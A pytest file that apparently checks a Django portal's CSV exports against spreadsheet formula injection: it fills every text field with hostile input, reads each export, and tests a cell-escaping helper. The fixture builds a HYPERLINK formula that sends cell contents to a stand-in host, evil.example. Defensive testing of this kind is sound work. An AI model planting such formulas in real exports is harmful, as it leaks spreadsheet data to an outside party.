"""Every CSV the portal produces, with hostile content: no cell may start a spreadsheet formula.

The CSV URLs are discovered from the URLconf (a route ending in ``.csv``, or a url name ending
in ``csv`` or ``export``), so a CSV added later without an entry in ``COVERAGE`` fails
``test_every_csv_url_is_covered``. Every text field a CSV shows is filled with
``=HYPERLINK(…)`` (and with the other formula triggers: + - @ tab CR) and must come out quoted.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal

import pytest
from django.http import HttpResponse
from django.urls import get_resolver, path, reverse
from django.utils import translation

from dialogue.tests.factories import ContributionFactory, ResponseFactory, RoundFactory
from ideagroups.tests.factories import IdeaGroupFactory
from indicators.models import Observation
from indicators.tests.factories import AreaFactory, IndicatorFactory
from results.models import Result, ResultKind
from sodertorn.csvwriter import FORMULA_STARTS, safe_cell
from testbeds.tests.factories import MunicipalityFactory, TestbedFactory, ThemeFactory

from .public_pages import _walk

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def payload(trigger: str, field: str) -> str:
    return f'{trigger}HYPERLINK("https://evil.example/?d="&A1;"{field}")'


# Discovery ----------------------------------------------------------------------------------


def discover_csv_patterns(urlconf=None) -> list[tuple[str, str]]:
    """(namespaced name, route) of every URL pattern that serves a CSV file, admin included."""
    found = []
    for entry, route, namespace, _converters, _localized in _walk(
        get_resolver(urlconf).url_patterns
    ):
        name = namespace + (entry.name or "")
        if route.rstrip("/$").endswith(".csv") or re.search(r"(csv|export)$", entry.name or ""):
            found.append((name or route, route))
    return found


# Coverage: url name -> how to reach it and which of its columns are text from the database -


@dataclass(frozen=True)
class Coverage:
    urls: Callable[[dict], list[str]]
    text_columns: tuple[str, ...]


COVERAGE: dict[str, Coverage] = {
    "opendata:testbeds_csv": Coverage(
        lambda w: [reverse("opendata:testbeds_csv")],
        ("title", "municipalities", "themes", "place_name", "question", "summary"),
    ),
    "opendata:results_csv": Coverage(
        lambda w: [reverse("opendata:results_csv")],
        (
            "title",
            "testbed_title",
            "idea_group",
            "municipalities",
            "themes",
            "summary",
        ),
    ),
    "indicators:export_all_csv": Coverage(
        lambda w: [reverse("indicators:export_all_csv")], ("area_name", "note")
    ),
    "indicators:indicator_csv": Coverage(
        lambda w: [reverse("indicators:indicator_csv", kwargs={"code": w["indicator"].code})],
        ("area_name", "note"),
    ),
    "dialogue:csv": Coverage(
        lambda w: [reverse("dialogue:csv", kwargs={"slug": round_.slug}) for round_ in w["rounds"]],
        ("text", "name", "area", "answers", "answered_by"),
    ),
}


@pytest.fixture
def hostile():
    """One of everything a CSV shows per formula trigger, every text field hostile."""
    indicator = IndicatorFactory(code="hostil-indikator")
    rounds = []
    for index, trigger in enumerate(TRIGGERS):
        municipality = MunicipalityFactory(
            name=payload(trigger, "municipality"), slug=f"kommun-{index}", code=f"90{index:02d}"
        )
        theme = ThemeFactory(name=payload(trigger, "theme"), slug=f"tema-{index}")
        testbed = TestbedFactory(
            slug=f"badd-{index}",
            title=payload(trigger, "title"),
            question=payload(trigger, "question"),
            summary=payload(trigger, "summary"),
            place_name=payload(trigger, "place"),
            municipalities=[municipality],
            themes=[theme],
        )
        group = IdeaGroupFactory(name=payload(trigger, "group"), slug=f"grupp-{index}")
        Result.objects.create(
            testbed=testbed,
            idea_group=group,
            title=payload(trigger, "result"),
            slug=f"resultat-{index}",
            kind=ResultKind.METHOD,
            summary=payload(trigger, "result summary"),
            date=datetime.date(2017, 1, 1),
            published=True,
        )
        area = AreaFactory(own_code=f"omr-{index}", own_name=payload(trigger, "area"))
        Observation.objects.create(
            indicator=indicator,
            area=area,
            year=2016,
            value=Decimal("-3.5"),
            note=payload(trigger, "note"),
        )
        round_ = RoundFactory(testbed=testbed, slug=f"runda-{index}", closed=True)
        contribution = ContributionFactory(
            round=round_,
            text=payload(trigger, "text"),
            name=payload(trigger, "name"),
            area=payload(trigger, "area"),
        )
        ResponseFactory(
            contribution=contribution,
            signed=payload(trigger, "signed"),
            text=payload(trigger, "answer"),
        )
        rounds.append(round_)
    return {"indicator": indicator, "rounds": rounds}


def read(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment;" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf"), "every CSV starts with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# Tests --------------------------------------------------------------------------------------


def test_every_csv_url_is_covered():
    discovered = {name for name, _route in discover_csv_patterns()}
    assert len(discovered) >= 5, discovered
    uncovered = discovered - set(COVERAGE)
    assert not uncovered, (
        f"CSV URLs without a hostile-content check: {sorted(uncovered)}; add them to COVERAGE "
        "in tests/test_csv_exports_hostile.py (and write them with sodertorn.csvwriter)"
    )
    assert set(COVERAGE) <= discovered, "COVERAGE names a CSV URL that no longer exists"


def _fake_view(request):
    return HttpResponse("")


urlpatterns = [  # a URLconf for the discovery test below
    path("nytt/export.csv", _fake_view, name="something_new"),
    path("nytt/sida/", _fake_view, name="page"),
]


def test_a_new_csv_url_is_discovered():
    assert discover_csv_patterns(__name__) == [("something_new", "nytt/export.csv")]


@pytest.mark.parametrize("name", sorted(COVERAGE))
@pytest.mark.parametrize("language", ["sv", "en"])
def test_no_cell_starts_a_formula(client, hostile, name, language):
    coverage = COVERAGE[name]
    with translation.override(language):
        urls = coverage.urls(hostile)
    assert urls
    for url in urls:
        rows = read(client.get(url))
        header, data = rows[0], rows[1:]
        assert data, f"{url}: the hostile content is missing"
        for row in data:
            for column, cell in zip(header, row, strict=True):
                if cell.startswith(FORMULA_STARTS):
                    assert NUMBER.fullmatch(cell), f"{url}: {column} starts a formula: {cell!r}"
        for column in coverage.text_columns:
            index = header.index(column)
            for row in data:
                assert row[index].startswith("'") and "HYPERLINK" in row[index], (
                    f"{url}: {column} is not the guarded hostile text: {row[index]!r}"
                )
        seen = {row[header.index(coverage.text_columns[0])][1] for row in data}
        if name != "dialogue:csv":  # one round per trigger there
            assert seen == set(TRIGGERS), f"{url}: not every trigger reached the file"


def test_numbers_stay_numbers(client, hostile):
    rows = read(client.get(reverse("indicators:export_all_csv")))
    value = rows[0].index("value")
    assert {row[value] for row in rows[1:]} == {"-3.5"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8", "'+46 8"),
        ("-2", "'-2"),  # text that looks like a number is still text
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Flemingsberg", "Flemingsberg"),
        (None, ""),
        (True, "1"),
        (-17.5, "-17.5"),
        (Decimal("-3.5000"), "-3.5000"),
        (Decimal("1E+1"), "10"),
        (datetime.date(2016, 5, 1), "2016-05-01"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
